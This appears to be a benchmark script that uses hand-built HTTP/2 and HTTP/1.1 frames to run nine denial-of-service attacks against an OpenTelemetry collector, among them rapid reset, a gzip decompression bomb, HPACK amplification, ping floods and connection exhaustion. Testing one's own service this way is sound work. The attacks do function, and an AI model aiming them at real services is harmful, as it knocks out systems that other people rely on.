"""Attacks on a listener, each at the rate at which one connection can send.

python bench/attackers.py NAME GRPC_ADDRESS HTTP_ADDRESS SECONDS; prints the bytes that
it sent as JSON. Written by hand on sockets, since no client library sends these.
"""

import gzip
import json
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"
ONE_MIB = 2**20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Encode one frame of HTTP/2."""
    size = struct.pack(">I", len(payload))[1:]
    return size + struct.pack(">BBI", kind, flags, stream) + payload


def field(name: bytes, value: bytes, kind: int = 0) -> bytes:
    """Encode a header literally, RFC 7541, 6.2.2; `kind` 0x40 has it remembered."""
    return bytes([kind]) + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    left, encoded = len(text) - 127, bytearray([127])
    while left > 127:
        encoded.append(left & 127 | 128)
        left >>= 7
    return bytes(encoded + bytes([left])) + text


def request(*more: bytes) -> bytes:
    """Encode the headers of an export."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", PATH),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(field(*each) for each in fields) + b"".join(more)


class Attacker:
    """One connection that is opened again when it is closed; counts what it sends."""

    def __init__(self, address: str, ends_at: float, hello: bytes = b"") -> None:
        host, _, port = address.rpartition(":")
        self._to, self._hello, self._ends_at = (host, int(port)), hello, ends_at
        self._socket: socket.socket | None = None
        self.sent_bytes = 0
        self.opened = 0

    @property
    def goes_on(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self._ends_at

    def send(self, data: bytes) -> bool:
        """Send all of it and read what there is; false if the connection was closed."""
        try:
            if self._socket is None:
                self._socket = socket.create_connection(self._to, timeout=1)
                self.opened += 1
                data = self._hello + data
            self._socket.settimeout(1)
            self._socket.sendall(data)
            self.sent_bytes += len(data)
            self._socket.settimeout(0)
            with suppress(BlockingIOError):
                if not self._socket.recv(ONE_MIB):
                    raise ConnectionError
        except OSError:
            self.close()
            return False
        return True

    def close(self) -> None:
        """Close; the next `send` opens another."""
        if self._socket is not None:
            self._socket.close()
            self._socket = None


def _streams(attacker: Attacker, make: Callable[[int], bytes]) -> None:
    """Send what `make` makes of stream numbers, on and on."""
    number = 1
    while attacker.goes_on:
        if not attacker.send(make(number)):
            number = -1
            time.sleep(0.01)
        number += 2


def _http2(address: str, ends_at: float) -> Attacker:
    return Attacker(address, ends_at, PREFACE + frame(SETTINGS, 0, 0))


def _message(body: bytes) -> bytes:
    return b"\x01" + len(body).to_bytes(4, "big") + body


def members(grpc: str, _http: str, ends_at: float) -> int:
    """Send bodies of empty gzip members, one behind the other."""
    attacker = _http2(grpc, ends_at)
    body = _message(gzip.compress(b"") * 20_000)
    pieces = [body[at : at + 16_000] for at in range(0, len(body), 16_000)]
    block = request(field(b"grpc-encoding", b"gzip"))

    def made(number: int) -> bytes:
        last = len(pieces) - 1
        return frame(HEADERS, END_HEADERS, number, block) + b"".join(
            frame(DATA, END_STREAM if at == last else 0, number, piece)
            for at, piece in enumerate(pieces)
        )

    _streams(attacker, made)
    return attacker.sent_bytes


def indexed(grpc: str, _http: str, ends_at: float) -> int:
    """Send header blocks of indexed fields: a byte each, a long value each."""
    attacker = _http2(grpc, ends_at)

    def made(number: int) -> bytes:
        known = field(b"x-a", b"y" * 3000, 0x40) if number == 1 else b""
        block = request(known, b"\xbe" * 20)
        return frame(HEADERS, END_HEADERS | END_STREAM, number, block)

    _streams(attacker, made)
    return attacker.sent_bytes


def resets(grpc: str, _http: str, ends_at: float) -> int:
    """Open streams and reset them."""
    attacker, block = _http2(grpc, ends_at), request()
    cancel = b"\0\0\0\x08"

    def made(number: int) -> bytes:
        return frame(HEADERS, END_HEADERS, number, block) + frame(
            RST_STREAM, 0, number, cancel
        )

    _streams(attacker, made)
    return attacker.sent_bytes


def pings(grpc: str, _http: str, ends_at: float) -> int:
    """Send pings."""
    attacker = _http2(grpc, ends_at)
    _streams(attacker, lambda _number: frame(PING, 0, 0, bytes(8)) * 100)
    return attacker.sent_bytes


def announced(grpc: str, _http: str, ends_at: float) -> int:
    """Announce messages of 64 MiB and send none of them."""
    attacker, block = _http2(grpc, ends_at), request()
    start = b"\0" + (64 * ONE_MIB).to_bytes(4, "big")

    def made(number: int) -> bytes:
        time.sleep(0.01)
        opened = frame(HEADERS, END_HEADERS, number, block)
        return opened + frame(DATA, 0, number, start)

    _streams(attacker, made)
    return attacker.sent_bytes


def places(grpc: str, _http: str, ends_at: float) -> int:
    """Hold every stream of 64 connections without a body."""
    held = [_http2(grpc, ends_at) for _ in range(64)]
    block = request()
    opened = b"".join(
        frame(HEADERS, END_HEADERS, number, block) for number in range(1, 512, 2)
    )
    while held[0].goes_on:
        for attacker in held:
            attacker.send(opened)
        time.sleep(1)
        for attacker in held:
            attacker.close()
    return sum(attacker.sent_bytes for attacker in held)


def silent(grpc: str, http: str, ends_at: float) -> int:
    """Hold 1,100 connections of each listener that say nothing."""
    held = [Attacker(to, ends_at) for to in (grpc, http) for _ in range(1100)]
    while held[0].goes_on:
        for attacker in held:
            attacker.send(b"")
        time.sleep(0.5)
    return sum(attacker.sent_bytes for attacker in held)


def json_values(_grpc: str, http: str, ends_at: float) -> int:
    """Send JSON bodies of a hundred thousand attributes, to be made protobuf of."""
    attacker = Attacker(http, ends_at)
    one = '{"key":"gen_ai.k","value":{"stringValue":"v"}}'
    body = (
        '{"resourceSpans":[{"scopeSpans":[{"spans":[{"name":"n","attributes":['
        + ",".join([one] * 60_000)
        + "]}]}]}]}"
    ).encode()
    head = b"POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    whole = head + b"Content-Length: %d\r\n\r\n" % len(body) + body
    while attacker.goes_on:
        if not attacker.send(whole):
            time.sleep(0.01)
    return attacker.sent_bytes


def heads(_grpc: str, http: str, ends_at: float) -> int:
    """Send pipelined requests that ask for another protocol."""
    attacker = Attacker(http, ends_at)
    upgrade = b"GET /n HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: a\r\n\r\n"
    while attacker.goes_on:
        if not attacker.send(upgrade * 200):
            time.sleep(0.01)
    return attacker.sent_bytes


ATTACKS = {
    "members": members,
    "indexed": indexed,
    "resets": resets,
    "pings": pings,
    "announced": announced,
    "places": places,
    "silent": silent,
    "json_values": json_values,
    "heads": heads,
}


def main(argv: list[str]) -> int:
    """Attack for so many seconds."""
    name, grpc, http, seconds = argv
    sent = ATTACKS[name](grpc, http, time.monotonic() + float(seconds))
    print(json.dumps({"bytes": sent}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
